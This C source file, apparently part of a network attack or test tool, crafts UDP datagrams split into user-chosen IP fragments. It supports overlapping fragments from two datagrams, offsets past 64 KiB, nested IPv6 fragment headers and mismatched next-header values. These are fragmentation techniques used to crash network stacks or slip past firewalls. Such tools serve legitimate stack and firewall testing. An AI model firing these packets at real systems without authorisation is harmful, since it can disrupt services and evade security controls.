/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * A UDP datagram in pieces of one's own choice (RFC 791, RFC 8200 4.5).
 *   pieces=a0+8m,a8+32   each: datagram, offset+length in bytes of its IP payload, and m when more follow. a is a datagram
 *                        to dport, b one to other_port, with the same identification. A length past the end is cut off
 *   offset=N             added to each piece's offset: what says that it lies beyond the end of 64 KiB
 *   size=N               bytes of data of the datagrams, at least
 *   other_port=N         of datagram b
 * IPv6:
 *   nested=N             further fragment headers, each that of a whole packet, in front of the real one
 *   options=N            bytes of destination options in the fragmentable part, in front of UDP: a multiple of 8
 *   next=N               the next header that pieces past the first name
 * IPv4:
 *   ip_options=N         bytes of no-operation in each piece's header: a multiple of 4
 */
#include "attack.h"

#include <stdio.h>
#include <string.h>
#include <time.h>

#define NEXT_FRAGMENT 44
#define NEXT_OPTIONS 60
#define MORE4 0x2000u
#define MORE6 1u

struct piece {
    char datagram;
    unsigned offset, length;
    bool more;
};

/* What is to be cut: the IP payload. */
static void build_payload(struct frame *ret, const struct request *request, uint16_t port)
{
    struct request one = *request;
    struct frame packet = {0};
    size_t header = request->dst.is_ipv6 ? 40 : 20, options = option_number("options", 0);

    one.dport = port;
    put_udp(&packet, &one, option_number("size", 0));
    if (options) {
        put8(ret, IPPROTO_UDP);
        put8(ret, (uint8_t)(options / 8 - 1));
        put8(ret, 1); /* PadN */
        put8(ret, (uint8_t)(options - 4));
        for (size_t i = 4; i < options; i++)
            put8(ret, 0);
    }
    put(ret, packet.data + header, packet.len - header);
}

static void put_piece4(struct frame *frame, const struct request *request, const struct piece *piece,
                       uint32_t id)
{
    size_t start = frame->len, options = option_number("ip_options", 0), header = 20 + options;

    put8(frame, (uint8_t)(0x40 | header / 4));
    put8(frame, 0);
    put16(frame, (uint16_t)(header + piece->length));
    put16(frame, (uint16_t)id);
    put16(frame, (uint16_t)(piece->offset / 8 | (piece->more ? MORE4 : 0)));
    put16(frame, 0x4000 | IPPROTO_UDP);
    put16(frame, 0);
    put(frame, request->src.bytes, 4);
    put(frame, request->dst.bytes, 4);
    for (size_t i = 0; i < options; i++)
        put8(frame, 1);
    set16(frame, start + 10, checksum(frame->data + start, header, 0));
}

static void put_fragment_header(struct frame *frame, unsigned next, unsigned offset_and_more, uint32_t id)
{
    put16(frame, (uint16_t)(next << 8));
    put16(frame, (uint16_t)offset_and_more);
    put32(frame, id);
}

static void put_piece6(struct frame *frame, const struct request *request, const struct piece *piece,
                       uint32_t id)
{
    unsigned nested = option_number("nested", 0),
             next = option_number("options", 0) ? NEXT_OPTIONS : IPPROTO_UDP;
    uint32_t other = option_number("next", next);

    put_ip(frame, request, NEXT_FRAGMENT, 8 * (nested + 1) + piece->length);
    for (unsigned i = 0; i < nested; i++)
        put_fragment_header(frame, NEXT_FRAGMENT, 0, id + 1 + i);
    put_fragment_header(frame, piece->offset ? other : next,
                        (piece->offset & ~7u) | (piece->more ? MORE6 : 0), id);
}

static void send_piece(const struct request *request, const struct frame *payload, struct piece piece,
                       uint32_t id)
{
    static struct frame frame;
    size_t from = piece.offset;

    if (from > payload->len)
        die("pieces=: %u is past the datagram's end", piece.offset);
    if (piece.length > payload->len - from)
        piece.length = (unsigned)(payload->len - from);
    piece.offset += option_number("offset", 0);
    frame.len = 0;
    put_ethernet(&frame, request, ether_type(request));
    if (request->dst.is_ipv6)
        put_piece6(&frame, request, &piece, id);
    else
        put_piece4(&frame, request, &piece, id);
    put(&frame, payload->data + from, piece.length);
    send_once(request, &frame);
}

static void send_pieces(const struct request *request, const struct frame payload[2], uint32_t id)
{
    int n;

    for (const char *at = option_text("pieces", ""); *at; at += n + (at[n] == ',')) {
        struct piece piece;

        if (sscanf(at, "%c%u+%u%n", &piece.datagram, &piece.offset, &piece.length, &n) != 3)
            die("pieces=...%s: aOFFSET+LENGTH[m][,...] expected", at);
        piece.more = at[n] == 'm';
        n += piece.more;
        send_piece(request, &payload[piece.datagram == 'b'], piece, id);
    }
}

void attack_fragments(const struct request *request)
{
    static struct frame payload[2];
    struct timespec now;

    clock_gettime(CLOCK_MONOTONIC, &now);
    build_payload(&payload[0], request, request->dport);
    build_payload(&payload[1], request, (uint16_t)option_number("other_port", request->dport));
    for (unsigned i = 0; i < request->count; i++)
        send_pieces(request, payload, (uint32_t)(now.tv_nsec / 1000) + i * 16);
}
